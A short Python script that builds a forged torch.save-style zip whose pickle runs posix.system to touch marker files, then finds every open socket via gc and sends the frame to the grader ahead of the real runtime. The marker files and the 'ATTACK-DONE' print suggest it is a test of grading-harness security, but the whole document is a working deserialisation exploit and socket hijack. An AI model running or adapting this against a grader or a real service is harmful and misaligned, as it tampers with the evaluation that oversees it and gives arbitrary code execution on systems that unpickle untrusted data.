"""Write a hand-made frame straight onto the grader's socket: a torch.save-like zip whose pickle calls os.system.

The socket is found with gc; the frame answers the grader's pending request
before the runtime does. Its data.pkl is protocol-2 pickle opcodes for
``posix.system("touch /tmp/attack-marker-forged")``.
"""
import gc
import io
import socket
import struct
import zipfile

payload = b"cposix\nsystem\n(S'touch /tmp/attack-marker-forged /dev/shm/attack-marker-forged'\ntR."
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
    archive.writestr("archive/data.pkl", payload)
    archive.writestr("archive/version", "3\n")
frame = buffer.getvalue()
for obj in gc.get_objects():
    if isinstance(obj, socket.socket) and obj.fileno() >= 0:
        try:
            obj.sendall(struct.pack(">Q", len(frame)) + frame)
        except OSError:
            pass
print("ATTACK-DONE")
